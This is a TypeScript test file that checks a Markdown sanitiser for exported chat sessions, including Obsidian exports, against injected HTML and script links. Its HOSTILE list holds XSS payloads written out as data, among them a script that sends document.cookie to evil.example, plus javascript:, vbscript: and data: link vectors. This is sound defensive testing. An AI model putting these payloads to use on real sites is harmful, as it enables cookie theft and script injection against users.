import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import type { SessionSnapshot } from '@/lib/session/types';
import { sampleSnapshot } from '@/lib/testing/formatChecks';
import { exportMarkdown } from './markdown';
import { escapeMarkdownText, isSafeLinkUrl, neutraliseMarkdown } from './markdownSafety';

/**
 * The exports are checked the way a notes app reads them: parsed as Markdown
 * (CommonMark + GFM, as Obsidian and most previews do). A safe file has no raw
 * HTML node and no link, image or definition to a script address, whatever
 * the conversation held.
 */

interface MdNode {
  type: string;
  value?: string;
  url?: string;
  depth?: number;
  children?: MdNode[];
}

const parse = (md: string) => unified().use(remarkParse).use(remarkGfm).parse(md) as unknown as MdNode;

function all(node: MdNode, out: MdNode[] = []): MdNode[] {
  out.push(node);
  for (const c of node.children ?? []) all(c, out);
  return out;
}

/** The text a reader sees for a node (what a renderer would show, markup removed). */
const textOf = (node: MdNode): string => node.value ?? (node.children ?? []).map(textOf).join('');

function unsafeNodes(md: string): MdNode[] {
  return all(parse(md)).filter((n) => n.type === 'html' || (typeof n.url === 'string' && !isSafeLinkUrl(n.url)));
}

const HOSTILE = [
  '<img src=x onerror="alert(document.cookie)">',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  'Click [here](javascript:alert(1)) now',
  'Or [here](JaVaScRiPt:alert(1)) and [there]( javascript:alert(1) )',
  '[tabbed](java\tscript:alert(1))',
  '![pic](javascript:alert(1))',
  'An autolink <javascript:alert(1)> in text',
  '[ref link][r]\n\n[r]: javascript:alert(1)',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '[<img src=x onerror=alert(1)>](javascript:alert(2))',
  '<!-- a comment that hides text -->',
];

describe('neutraliseMarkdown', () => {
  it.each(HOSTILE)('leaves no HTML and no script link in %j', (text) => {
    const out = neutraliseMarkdown(text);
    expect(unsafeNodes(out)).toEqual([]);
  });

  it('shows raw HTML as the text that was typed', () => {
    const out = neutraliseMarkdown('Use <div class="x"> here, and <br> too.');
    expect(textOf(parse(out))).toBe('Use <div class="x"> here, and <br> too.');
  });

  it('keeps an unsafe link’s words and drops its address', () => {
    const out = neutraliseMarkdown('Click [**here**](javascript:alert(1)) now');
    expect(out).toBe('Click **here** now');
  });

  it('leaves Markdown, safe links and code alone', () => {
    const fine = [
      '# Title\n\nSome *emphasis*, a [link](https://example.com/a?b=c), [mail](mailto:a@b.c), [rel](./notes.md) and [anchor](#top).',
      '```html\n<script>alert(1)</script>\n```',
      'Inline `<b>code</b>` and `[x](javascript:y)` stay as written.',
      '    <indented code block>',
      '| a | b |\n|---|---|\n| 1 < 2 | x |',
      'Math: 1 < 2 and 3 > 2.',
    ];
    for (const text of fine) expect(neutraliseMarkdown(text), text).toBe(text);
  });
});

describe('escapeMarkdownText', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    '# Not a heading',
    '[x](javascript:alert(1))',
    '**bold** and _em_ and `code`',
    'C# & F# | pipes ~strike~',
    'a \\ backslash',
    'line one\nline two',
    'snake_case and pydicom__pydicom-1458 and _lead and trail_ and a_*b*_c',
  ])('%j reads as exactly that text, on one line', (text) => {
    const out = escapeMarkdownText(text);
    expect(out).not.toContain('\n');
    const tree = parse(`# ${out}`);
    expect(tree.children).toHaveLength(1);
    expect(tree.children![0]!.type).toBe('heading');
    expect(unsafeNodes(`# ${out}`)).toEqual([]);
    expect(textOf(tree)).toBe(text.replace(/\n/g, ' '));
  });
});

it('leaves underscores inside words unescaped (a file name reads as it is written)', () => {
  expect(escapeMarkdownText('SWE-agent_SWE-agent_pydicom__pydicom-1458.traj')).toBe('SWE-agent_SWE-agent_pydicom__pydicom-1458.traj');
});

describe('the Markdown and Obsidian exports', () => {
  function hostileSnapshot(): SessionSnapshot {
    const s = sampleSnapshot();
    const entries = s.entries.map((e) => {
      if (e.type !== 'message') return e;
      const m = e.message;
      if (m.role === 'user') return { ...e, message: { ...m, content: m.content.map((p) => (p.type === 'text' ? { ...p, text: HOSTILE.join('\n\n') } : p)) } };
      if (m.role === 'assistant')
        return {
          ...e,
          message: {
            ...m,
            model: '<img src=x onerror=alert(1)>',
            content: m.content.map((p) => (p.type === 'text' ? { ...p, text: `Reply ${HOSTILE[2]}` } : p.type === 'thinking' ? { ...p, thinking: HOSTILE[0]! } : p)),
          },
        };
      return e;
    });
    return { ...s, entries, meta: { ...s.meta, title: '<script>alert(1)</script> [x](javascript:alert(1)) # not a heading', model: '<b>model</b>' } } as SessionSnapshot;
  }

  for (const [name, opts] of [
    ['Markdown', {}],
    ['Markdown, all branches', { allBranches: true }],
    ['Obsidian', { frontMatter: true }],
  ] as const) {
    it(`${name}: no raw HTML or script link anywhere, and the title is one heading of plain text`, () => {
      const s = hostileSnapshot();
      const md = exportMarkdown(s, opts);
      expect(unsafeNodes(md)).toEqual([]);
      const headings = all(parse(md)).filter((n) => n.type === 'heading' && n.depth === 1);
      expect(headings).toHaveLength(1);
      expect(textOf(headings[0]!)).toBe(s.meta.title);
      // What was typed is still there to read.
      expect(textOf(parse(md))).toContain('<img src=x onerror="alert(document.cookie)">');
      // Obsidian's properties read the title back unchanged (YAML's double-quoted strings are JSON's).
      if ('frontMatter' in opts) expect(JSON.parse(/^title: (.*)$/m.exec(md)![1]!)).toBe(s.meta.title);
    });
  }

  it('without the escaping, the same snapshot would have produced HTML and script links (the test can fail)', () => {
    const raw = HOSTILE.join('\n\n');
    expect(unsafeNodes(raw).length).toBeGreaterThan(8);
  });
});

describe('isSafeLinkUrl', () => {
  it('allows web, mail and relative addresses only', () => {
    for (const u of ['https://a.b/c', 'http://a', 'mailto:x@y.z', './rel.md', '#anchor', '/abs', 'notes/file.md', '?q=1']) expect(isSafeLinkUrl(u), u).toBe(true);
    for (const u of ['javascript:alert(1)', ' javascript:x', 'java\tscript:x', 'JAVASCRIPT:x', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd', 'obsidian://open?vault=x']) expect(isSafeLinkUrl(u), u).toBe(false);
  });
});
